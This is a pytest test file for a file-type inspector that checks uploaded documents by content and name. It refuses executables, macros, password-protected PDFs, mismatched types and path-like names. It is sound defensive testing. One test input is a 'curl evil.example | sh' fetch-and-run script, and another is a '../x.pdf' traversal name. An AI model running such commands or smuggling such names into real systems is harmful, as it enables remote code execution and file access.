"""jcbot.services.filetypes: what a file is (by content, checked against its name), refusals, and facts."""
from __future__ import annotations

import pytest
from support import documents as make

from jcbot.services import filetypes
from jcbot.services.filetypes import DOCX, PDF, XLSX, FileRefused, inspect

LIMIT = 1 << 20


def test_a_pdf_is_counted_in_pages():
    assert inspect("MN_PM012.pdf", make.pdf(3), LIMIT) == filetypes.Inspected(PDF, pages=3)


def test_a_pdf_without_a_user_password_opens_and_is_counted():
    assert inspect("protected.pdf", make.pdf(2, password=""), LIMIT).pages == 2


def test_a_pdf_members_would_need_a_password_for_is_refused():
    with pytest.raises(FileRefused, match="protected by a password"):
        inspect("secret.pdf", make.pdf(1, password="open-sesame"), LIMIT)


def test_a_workbook_lists_its_sheets_in_order():
    found = inspect("MN015_calculation.xlsx", make.xlsx("Summary", "Emission reductions", "Parameters"), LIMIT)
    assert found == filetypes.Inspected(XLSX, sheets=("Summary", "Emission reductions", "Parameters"))


def test_a_word_document_and_a_plain_zip_are_recognised_by_content():
    docx = make.zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    assert inspect("PDD.docx", docx, LIMIT).media_type == DOCX
    assert inspect("annexes.zip", make.zipped({"a.txt": b"x"}), LIMIT).media_type == "application/zip"
    # The name is only a hint: a workbook named without an extension is still a workbook.
    assert inspect("calculation", make.xlsx("S"), LIMIT).media_type == XLSX


@pytest.mark.parametrize("name, data, media_type", [
    ("tally.csv", b"member,position\ntanaka,affirmative\n", "text/csv"),
    ("notes.txt", "Objection period: 20 days \u2014 Ulaanbaatar".encode(), "text/plain"),
    ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, "image/png"),
    ("scan.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 20, "image/jpeg"),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 20, "application/vnd.ms-excel"),
    ("blob.dat", bytes(range(256)), "application/octet-stream"),
])
def test_other_types_by_content_and_name(name, data, media_type):
    assert inspect(name, data, LIMIT) == filetypes.Inspected(media_type)


@pytest.mark.parametrize("name", ["setup.exe", "run.bat", "run.cmd", "install.sh", "macro.js", "package.msi",
                                  "lib.dll", "screen.scr", "app.jar", "SETUP.EXE", "page.html", "image.svg",
                                  "book.xlsm", "letter.docm"])
def test_executables_scripts_and_macro_documents_are_refused_by_name(name):
    with pytest.raises(FileRefused, match="files are not accepted"):
        inspect(name, b"harmless-looking text", LIMIT)


@pytest.mark.parametrize("data, what", [
    (b"MZ\x90\x00\x03" + b"\x00" * 60, "Windows or DOS program"),
    (b"\x7fELF\x02\x01\x01" + b"\x00" * 9, "Linux/Unix program"),
    (b"\xcf\xfa\xed\xfe" + b"\x00" * 12, "macOS program"),
    (b"\xca\xfe\xba\xbe" + b"\x00" * 12, "universal program or a Java class"),
    (b"#!/bin/sh\ncurl evil.example | sh\n", "a script"),
])
def test_executables_are_refused_by_content_whatever_the_name(data, what):
    with pytest.raises(FileRefused, match=what):
        inspect("annual-report.pdf", data, LIMIT)


def test_macros_and_java_programs_inside_a_zip_are_refused():
    with pytest.raises(FileRefused, match="holds macros"):
        inspect("book.xlsx", make.zipped({"[Content_Types].xml": b"", "xl/workbook.xml": b"",
                                          "xl/vbaProject.bin": b"\x00"}), LIMIT)
    with pytest.raises(FileRefused, match="Java program"):
        inspect("tool.zip", make.zipped({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe"}), LIMIT)


@pytest.mark.parametrize("name, data, match", [
    ("MN_PM012.pdf", b"%PDF-1.7\n garbage, no objects, no trailer", "not a readable PDF"),
    ("MN_PM012.pdf", b"<html>not a pdf</html>", r"the name says \.pdf but the content is of type text/plain"),
    ("MN015.xlsx", make.pdf(1), r"the name says \.xlsx but the content is a PDF"),
    ("MN015.xlsx", b"PK\x03\x04 truncated", "a damaged zip archive"),
    ("MN015.xlsx", make.zipped({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"not xml"}),
     "not a readable workbook"),
])
def test_a_file_that_claims_a_type_it_cannot_be_read_as_is_refused(name, data, match):
    with pytest.raises(FileRefused, match=match):
        inspect(name, data, LIMIT)


def test_size_limit_and_empty_files():
    data = make.pdf(1)
    assert inspect("a.pdf", data, len(data)).pages == 1
    with pytest.raises(FileRefused, match=r"a\.pdf is .*; the limit is .* \(JCBOT_DOCUMENT_MAX_BYTES\)"):
        inspect("a.pdf", data, len(data) - 1)
    with pytest.raises(FileRefused, match=r"^big\.pdf is 30 MiB; the limit is 25 MiB"):
        filetypes.check_size("big.pdf", 30 << 20, 25 << 20)
    with pytest.raises(FileRefused, match="is empty"):
        inspect("empty.pdf", b"", LIMIT)


@pytest.mark.parametrize("name, match", [
    ("", "needs a file name"), ("  ", "needs a file name"), ("../x.pdf", "not a path"),
    ("a\\b.pdf", "not a path"), ("a\nb.pdf", "control characters"), ("x" * 256 + ".pdf", "at most 255"),
])
def test_bad_names_are_refused(name, match):
    with pytest.raises(FileRefused, match=match):
        inspect(name, b"text", LIMIT)


def test_sizes_for_people():
    assert [filetypes.mebibytes(n) for n in (90, 2048, 1536 * 1024, 25 << 20)] == [
        "90 bytes", "2 KiB", "1.5 MiB", "25 MiB"]
